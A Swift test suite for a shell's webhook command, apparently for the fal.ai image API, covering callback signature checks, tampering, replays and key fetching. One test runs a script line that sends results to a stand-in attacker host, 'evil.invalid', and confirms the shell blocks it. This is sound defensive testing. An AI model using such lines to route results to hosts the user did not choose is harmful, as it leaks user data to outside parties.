import FoundationEssentials
import Testing

@testable import Shell

/// A call back of the sandbox, received by a real server and verified.
@Suite(.timeLimit(.minutes(5))) struct WebhookCommandTests {
  /// A shell whose folder holds a call back: `body.json` and `headers.txt`.
  private static func withCallBack(
    _ prompt: String = "a fox", late seconds: Double = 0, isPaid: Bool = false,
    _ check: (ShellUnderTest) async throws -> Void
  ) async throws {
    var setup = Setup()
    setup.date = { Date().timeIntervalSince1970 + seconds }
    (setup.isPaid, setup.terms.isConsented) = (isPaid, isPaid)
    try await withShell(setup) { shell in
      let receiver = try await HookReceiver.start()
      let hook = "http://127.0.0.1:\(receiver.port)/hook?a=b"
      let shown = await shell.type("fal-ai/z-image/turbo \"\(prompt)\" seed=1 image_size=square --webhook \(hook)")
      let request = try #require(await receiver.requests.first { _ in true }, "\(shown)")
      #expect(request.hasPrefix("POST /hook?a=b HTTP/1.1\r\n"))
      let end = try #require(request.firstRange(of: "\r\n\r\n"))
      try shell.folder.write(Array(request[..<end.lowerBound].utf8), to: "headers.txt")
      try shell.folder.write(Array(request[end.upperBound...].utf8), to: "body.json")
      try await check(shell)
      await receiver.stop()
    }
  }

  @Test func `what the platform signed is its body`() async throws {
    try await Self.withCallBack { shell in
      let shown = await shell.type("let hook = (webhook verify body.json --headers @headers.txt); print $hook.status")
      #expect(shown == "OK\n")
      #expect(await shell.type("$hook.payload.seed") == "1\n")
    }
  }

  @Test func `the platform's keys are asked for once a day, and again where they do not fit`() async throws {
    try await Self.withCallBack(isPaid: true) { shell in
      for _ in 1...3 { _ = await shell.type("webhook verify body.json --headers headers.txt | count") }
      #expect(shell.requests.take().split(separator: "\n").count { $0.contains("jwks") } == 1)
      try shell.folder.write([0x7B, 0x7D], to: "body.json")
      #expect(await shell.type("webhook verify body.json --headers headers.txt").contains("has not signed this"))
      #expect(shell.requests.take().contains("jwks"))
    }
  }

  @Test func `a refusal is sent as well`() async throws {
    try await Self.withCallBack("nsfw") { shell in
      let shown = await shell.type("let hook = (webhook verify body.json --headers headers.txt); print $hook.error")
      #expect(shown == "Invalid status code: 422\n")
    }
  }

  @Test func `a body that was changed is not the platform's`() async throws {
    try await Self.withCallBack { shell in
      var body = try #require(shell.folder.bytes(of: "body.json"))
      body[body.count / 2] ^= 1
      try shell.folder.write(body, to: "body.json")
      let shown = await shell.type("webhook verify body.json --headers headers.txt")
      #expect(shown.contains("error: the platform has not signed this"))
    }
  }

  @Test func `an old call back is a repetition`() async throws {
    try await Self.withCallBack(late: 400) { shell in
      let shown = await shell.type("webhook verify body.json --headers headers.txt")
      #expect(shown.contains("error: it was signed "))
    }
  }

  @Test func `a script sends results to its caller's host alone`() async throws {
    var setup = Setup()
    setup.scriptArguments = []
    let line = "fal-ai/z-image/turbo \"a fox\" --webhook https://evil.invalid/x"
    try await withShell(setup) { shell in
      let (output, status) = await shell.runScript(line)
      #expect(output.contains("a script may not have results sent to evil.invalid") && status == 2)
      #expect(!shell.requests.take().contains("POST /queue"))
    }
    setup.variables = ["FAL_WEBHOOK": "https://evil.invalid/mine"]
    try await withShell(setup) { shell in
      let (_, status) = await shell.runScript(line)
      #expect(status == 0)
      #expect(
        shell.requests.take().contains("POST /queue/fal-ai/z-image/turbo?fal_webhook=https%3A%2F%2Fevil.invalid%2Fx"))
    }
  }

  @Test func `FAL_WEBHOOK is the webhook of every call that names none`() async throws {
    var setup = Setup()
    setup.variables = ["FAL_WEBHOOK": "https://hook.invalid/mine"]
    try await withShell(setup) { shell in
      #expect(
        await shell.type("fal-ai/z-image/turbo \"a\" --dry-run").contains("fal_webhook=https%3A%2F%2Fhook.invalid"))
      #expect(!(await shell.type("fal-ai/z-image/turbo \"a\" --sync --dry-run").contains("fal_webhook")))
    }
  }
}
